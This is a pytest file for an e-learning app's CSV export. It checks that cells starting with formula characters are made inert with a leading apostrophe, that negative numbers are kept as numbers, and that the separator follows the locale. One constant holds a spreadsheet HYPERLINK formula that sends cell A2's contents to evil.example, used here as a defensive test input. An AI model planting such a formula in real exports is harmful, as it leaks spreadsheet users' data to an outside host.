"""The one CSV writer: formula-leading cells made inert, numbers kept, separators per locale."""

import csv
import io

import pytest

from elearn.web.csvfile import inert, locale_delimiter, table_csv
from elearn.web.tables import Cell, Table

ATTACK = '=HYPERLINK("http://evil.example/?d="&A2,"Giorgi")'


def read_as_a_spreadsheet(text: str) -> tuple[str, list[list[str]]]:
    """The delimiter and cells as a spreadsheet finds them: BOM dropped, separator sniffed."""
    assert text.startswith("\ufeff")
    body = text.removeprefix("\ufeff")
    dialect = csv.Sniffer().sniff(body)
    return dialect.delimiter, list(csv.reader(io.StringIO(body), dialect))


@pytest.mark.parametrize(
    "value", [ATTACK, "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "-", "-1-1", "-0x10"]
)
def test_formula_leading_cells_get_a_quote(value):
    assert inert(value) == "'" + value


@pytest.mark.parametrize("value", ["-25%", "-25\xa0%", "-1\xa0234,5", "-1.234,5", "-3", "-0.5"])
def test_negative_numbers_as_the_reports_write_them_stay_numbers(value):
    assert inert(value) == value


@pytest.mark.parametrize("value", ["Giorgi", "25%", "", "a=b", "'quoted", "1-2"])
def test_other_cells_are_unchanged(value):
    assert inert(value) == value


@pytest.mark.parametrize(
    ("locale", "delimiter"),
    [
        ("en", "comma"),
        ("ro", "semicolon"),
        ("uk", "semicolon"),
        ("az", "semicolon"),
        ("hy", "semicolon"),
        ("ka", "semicolon"),
    ],
)
def test_the_delimiter_follows_the_locales_decimal_separator(locale, delimiter):
    assert locale_delimiter(locale) == delimiter


@pytest.mark.parametrize(("delimiter", "char"), [("comma", ","), ("semicolon", ";")])
def test_a_spreadsheet_reads_back_inert_text_and_real_numbers(delimiter, char):
    table = Table(
        ["Name", "@Agency", "Gain"],
        [
            [Cell(ATTACK), Cell('Police; Tbilisi, "A"'), Cell("-12,5\xa0%")],
            [Cell("\r\n-1+1"), Cell("x"), Cell("-3")],
        ],
    )
    text = table_csv(table, delimiter)
    found, rows = read_as_a_spreadsheet(text)
    assert found == char
    assert rows == [
        ["Name", "'@Agency", "Gain"],
        ["'" + ATTACK, 'Police; Tbilisi, "A"', "-12,5\xa0%"],
        ["'\r\n-1+1", "x", "-3"],
    ]
    for row in rows:
        for value in row:
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
            if value.startswith("-"):
                float(value.replace("\xa0", "").rstrip("%").replace(",", "."))  # a number
